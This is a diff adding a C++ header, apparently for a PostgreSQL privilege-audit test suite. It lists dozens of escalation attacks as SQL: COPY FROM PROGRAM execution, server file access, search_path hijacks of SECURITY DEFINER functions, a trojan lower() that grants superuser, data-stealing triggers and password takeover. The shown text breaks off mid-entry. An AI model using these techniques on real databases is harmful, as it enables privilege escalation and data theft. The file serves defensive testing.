@@ -1,0 +1,984 @@
+#pragma once
+// The attacks of escalations.test.cpp. {r} stands for a prefix of its roles, {db} for its
+// database, {super} for the bootstrap superuser, {data} for the data directory, {folder} for the
+// socket's, {where} for host and port. An attack gains when `gained` is printed, or when `shell`
+// ends well.
+
+#include <array>
+#include <string_view>
+
+namespace pgleast::test {
+
+struct Attack {
+  std::string_view id;
+  int since, until;
+  const char* extension = nullptr;  // that the build must have
+  bool certain = true;
+  const char* hba = nullptr;          // lines before all others
+  const char* hba_without = nullptr;  // the same where the precondition is missing
+  const char* setup;                  // by the superuser
+  const char* without;                // the same world without the precondition
+  const char* to;                     // role or power
+  const char* does = "";              // by {r}app
+  const char* victim_is = nullptr;
+  const char* victim = nullptr;  // what somebody stronger does then
+  const char* then = nullptr;    // by {r}app again
+  const char* shell = nullptr;   // by whoever runs the test
+  const char* reset = nullptr;   // by the superuser, what the attack left
+};
+
+inline constexpr std::array<Attack, 52>
+    attacks{
+        {
+            {.id = "ESC-SUPER",
+             .since = 12,
+             .until = 18,
+             .setup = "CREATE ROLE {r}app LOGIN SUPERUSER;",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+)x",
+             .to = "superuser",
+             .does = "SELECT 'gained' FROM pg_authid LIMIT 1;"},
+            {.id = "ESC-SET",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+ALTER ROLE {r}app NOINHERIT; CREATE ROLE {r}boss; GRANT {r}boss TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss;)x",
+             .to = "{r}boss",
+             .does = R"x(SET ROLE {r}boss;
+SELECT 'gained' WHERE current_user = '{r}boss';)x"},
+            {.id = "ESC-SET",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH INHERIT FALSE, SET TRUE;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
+             .to = "{r}boss",
+             .does = R"x(SET ROLE {r}boss;
+SELECT 'gained' WHERE current_user = '{r}boss';)x"},
+            {.id = "ESC-ADMIN",
+             .since = 12,
+             .until = 15,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; CREATE ROLE {r}friend; GRANT {r}boss TO {r}app WITH ADMIN OPTION;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; CREATE ROLE {r}friend; GRANT {r}boss TO {r}app;)x",
+             .to = "{r}boss",
+             .does = R"x(BEGIN; GRANT {r}boss TO {r}friend;
+SELECT 'gained' WHERE pg_has_role('{r}friend', '{r}boss', 'MEMBER');
+ROLLBACK;)x"},
+            {.id = "ESC-ADMIN",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH ADMIN FALSE, INHERIT FALSE, SET FALSE;)x",
+             .to = "{r}boss",
+             .does = R"x(BEGIN; GRANT {r}boss TO {r}app WITH SET TRUE;
+SET ROLE {r}boss;
+SELECT 'gained' WHERE current_user = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-ADMIN",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}staff; CREATE ROLE {r}boss; GRANT {r}boss TO {r}staff WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT {r}staff TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}staff; CREATE ROLE {r}boss; GRANT {r}boss TO {r}staff WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT {r}staff TO {r}app WITH INHERIT FALSE, SET FALSE;)x",
+             .to = "{r}boss",
+             .does = R"x(BEGIN; GRANT {r}boss TO {r}app WITH SET TRUE;
+SET ROLE {r}boss;
+SELECT 'gained' WHERE current_user = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-CREATEROLE",
+             .since = 12,
+             .until = 15,
+             .setup = "CREATE ROLE {r}app LOGIN CREATEROLE;",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+)x",
+             .to = "any role that is no superuser",
+             .does =
+                 R"x(CREATE TEMPORARY TABLE said (a text); BEGIN; GRANT pg_execute_server_program TO {r}app;
+COPY said FROM PROGRAM 'echo gained';
+TABLE said;
+ROLLBACK;)x"},
+            {.id = "ESC-EXECPROG",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_execute_server_program TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_write_server_files TO {r}app;)x",
+             .to = "the server's operating-system user",
+             .does = R"x(CREATE TEMPORARY TABLE said (a text);
+COPY said FROM PROGRAM 'echo gained';
+TABLE said;)x"},
+            {.id = "ESC-WRITEFILE",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_write_server_files TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_read_server_files TO {r}app;)x",
+             .to = "the files of the server's operating-system user, to write",
+             .does = "COPY (SELECT 1) TO '{data}/{db}.written';",
+             .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
+            {.id = "ESC-READFILE",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_read_server_files TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_write_server_files TO {r}app;)x",
+             .to = "the files of the server's operating-system user, to read",
+             .does = R"x(CREATE TEMPORARY TABLE said (a text);
+COPY said FROM '{data}/PG_VERSION';
+SELECT 'gained' FROM said;)x"},
+            {.id = "ESC-FILEFUNC",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT EXECUTE ON FUNCTION pg_read_file(text) TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT EXECUTE ON FUNCTION pg_ls_dir(text) TO {r}app;)x",
+             .to = "the files of the server's operating-system user, to read",
+             .does = "SELECT 'gained' FROM pg_read_file('PG_VERSION');"},
+            {.id = "ESC-FILEFUNC",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+)x",
+             .to = "the files of the server's operating-system user, to write",
+             .does = R"x(SELECT lo_from_bytea(0, 'x') AS written \gset
+SELECT lo_export(:written, '{data}/{db}.written');)x",
+             .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
+            {.id = "ESC-BYPASSRLS",
+             .since = 12,
+             .until = 18,
+             .setup = "CREATE ROLE {r}app LOGIN BYPASSRLS; CREATE TABLE public.t AS SELECT 1 AS a; "
+                      "ALTER TABLE public.t ENABLE ROW LEVEL SECURITY; GRANT SELECT ON public.t TO "
+                      "{r}app; GRANT USAGE ON SCHEMA public TO {r}app;",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE TABLE public.t AS SELECT 1 AS a; ALTER TABLE public.t ENABLE ROW LEVEL SECURITY; GRANT SELECT ON public.t TO {r}app; GRANT USAGE ON SCHEMA public TO {r}app;)x",
+             .to = "rows that row security keeps from others",
+             .does = "SELECT 'gained' FROM public.t;"},
+            {.id = "ESC-READDATA",
+             .since = 14,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_read_all_data TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_monitor TO {r}app;)x",
+             .to = "all rows",
+             .does = "SELECT 'gained' FROM pg_authid LIMIT 1;"},
+            {.id = "ESC-WRITEDATA",
+             .since = 14,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE TABLE public.t (a int); GRANT pg_write_all_data TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE TABLE public.t (a int); GRANT pg_read_all_data TO {r}app;)x",
+             .to = "all rows, to change",
+             .does = "INSERT INTO public.t VALUES (1) RETURNING 'gained';"},
+            {.id = "ESC-LARGEOBJECT",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');
+ALTER SYSTEM SET lo_compat_privileges = on;
+SELECT pg_reload_conf(), pg_sleep(0.3);)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');)x",
+             .to = "every large object",
+             .does = "SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS "
+                     "all_of_them LIMIT 1;"},
+            {.id = "ESC-CLOUDADMIN",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+DO $$ BEGIN CREATE ROLE rds_superuser; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
+GRANT rds_superuser TO {r}app; CREATE TABLE public.t AS SELECT 1 AS a; GRANT SELECT ON public.t TO rds_superuser; GRANT USAGE ON SCHEMA public TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+DO $$ BEGIN CREATE ROLE rds_superuser; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
+CREATE TABLE public.t AS SELECT 1 AS a; GRANT SELECT ON public.t TO rds_superuser; GRANT USAGE ON SCHEMA public TO {r}app;)x",
+             .to = "what the cloud provider gives in place of superuser",
+             .does = "SELECT 'gained' FROM public.t;"},
+            {.id = "ESC-REPLICATION",
+             .since = 12,
+             .until = 18,
+             .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+)x",
+             .to = "a copy of the whole cluster",
+             .shell =
+                 R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
+            {.id = "ESC-REPLICATION",
+             .since = 12,
+             .until = 18,
+             .hba_without = R"x(local replication {r}app reject
+host replication {r}app all reject)x",
+             .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
+             .without = "CREATE ROLE {r}app LOGIN REPLICATION;",
+             .to = "a copy of the whole cluster",
+             .shell =
+                 R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
+            {.id = "ESC-DECODE",
+             .since = 12,
+             .until = 18,
+             .setup = "CREATE ROLE {r}app LOGIN REPLICATION; CREATE TABLE public.t (a text);",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE TABLE public.t (a text);)x",
+             .to = "every change of the rows of a database",
+             .does = R"x(SELECT pg_create_logical_replication_slot('{db}', 'test_decoding', true);
+\! psql -X -q -d '{where} user={super} dbname={db}' -c "INSERT INTO public.t VALUES ('gained')"
+SELECT data FROM pg_logical_slot_get_changes('{db}', NULL, NULL);)x"},
+            {.id = "ESC-PASSWORD",
+             .since = 16,
+             .until = 18,
+             .hba = "local {db} {r}boss scram-sha-256",
+             .hba_without = "local {db} {r}boss scram-sha-256",
+             .setup = "CREATE ROLE {r}app LOGIN CREATEROLE; CREATE ROLE {r}boss LOGIN REPLICATION; "
+                      "GRANT {r}boss TO {r}app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;",
+             .without =
+                 "CREATE ROLE {r}app LOGIN CREATEROLE; CREATE ROLE {r}boss LOGIN REPLICATION;",
+             .to = "{r}boss",
+             .does = "ALTER ROLE {r}boss PASSWORD 'chosen';",
+             .shell =
+                 "PGPASSWORD=chosen psql -X -d '{where} user={r}boss dbname={db}' -c 'SELECT 1'",
+             .reset = "ALTER ROLE {r}boss PASSWORD NULL;"},
+            {.id = "ESC-OWNER",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; CREATE SCHEMA s AUTHORIZATION {r}boss; CREATE FUNCTION s.f() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.f() OWNER TO {r}boss; GRANT {r}boss TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; CREATE SCHEMA s AUTHORIZATION {r}boss; CREATE FUNCTION s.f() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.f() OWNER TO {r}boss; GRANT {r}boss TO {r}app WITH INHERIT FALSE, SET FALSE;)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE OR REPLACE FUNCTION s.f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user::text';
+SELECT 'gained' WHERE s.f() = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-SECDEF",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip() RETURNS text SET search_path = pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
+SET LOCAL search_path = s, pg_catalog;
+SELECT 'gained' WHERE safe.vip() = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-SECDEF",
+             .since = 12,
+             .until = 18,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip() RETURNS text SET search_path = s, pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe, pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
+SET LOCAL search_path = s, pg_catalog;
+SELECT 'gained' WHERE safe.vip() = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-SECDEF",
+             .since = 12,
+             .until = 18,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
+SET search_path = safe; CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe LANGUAGE sql SECURITY DEFINER AS $$ SELECT a FROM rates $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
+SET search_path = safe; CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT a FROM rates $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(CREATE FUNCTION pg_temp.me() RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
+CREATE TEMPORARY VIEW rates AS SELECT pg_temp.me() AS a;
+GRANT SELECT ON pg_temp.rates TO PUBLIC;
+SELECT 'gained' WHERE safe.vip() = '{r}boss';)x"},
+            {.id = "ESC-SECDEF",
+             .since = 12,
+             .until = 18,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
+CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE r text; BEGIN EXECUTE 'SELECT ' || what INTO r; RETURN r; END $$; ALTER FUNCTION safe.run(text) OWNER TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
+CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN pg_catalog.upper(what); END $$; ALTER FUNCTION safe.run(text) OWNER TO {r}boss;)x",
+             .to = "{r}boss",
+             .does = "SELECT 'gained' WHERE safe.run('current_user') = '{r}boss';"},
+            {.id = "ESC-SEARCHPATH",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+GRANT CREATE ON SCHEMA public TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+)x",
+             .victim_is = "{super}",
+             .victim = "SELECT lower('X'::varchar);",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset =
+                 "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS public.lower(varchar);"},
+            {.id = "ESC-SEARCHPATH",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE SCHEMA {r}boss; GRANT USAGE ON SCHEMA {r}boss TO PUBLIC; GRANT CREATE ON SCHEMA {r}boss TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE SCHEMA {r}boss; GRANT USAGE ON SCHEMA {r}boss TO PUBLIC;)x",
+             .to = "{r}boss",
+             .does = "CREATE FUNCTION {r}boss.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT "
+                     "s.steal()::text';",
+             .victim_is = "{r}boss",
+             .victim = "SELECT lower('X'::varchar);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "DROP FUNCTION IF EXISTS {r}boss.lower(varchar); TRUNCATE s.loot;"},
+            {.id = "ESC-TRIGGER",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+GRANT INSERT ON s.t TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+)x",
+             .to = "{r}boss",
+             .does =
+                 "CREATE TRIGGER x BEFORE INSERT ON s.t FOR EACH ROW EXECUTE FUNCTION s.steal_t();",
+             .victim_is = "{r}boss",
+             .victim = "INSERT INTO s.t VALUES (2);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "DROP TRIGGER IF EXISTS x ON s.t; TRUNCATE s.loot;"},
+            {.id = "ESC-TRIGGER",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT TRIGGER ON public.u TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT INSERT ON public.u TO {r}app;)x",
+             .to = "{r}boss",
+             .does = "CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION "
+                     "s.steal_t();",
+             .victim_is = "{r}boss",
+             .victim = "INSERT INTO public.u VALUES (2);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "DROP TRIGGER IF EXISTS x ON public.u; TRUNCATE s.loot;"},
+            {.id = "ESC-POLICY",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
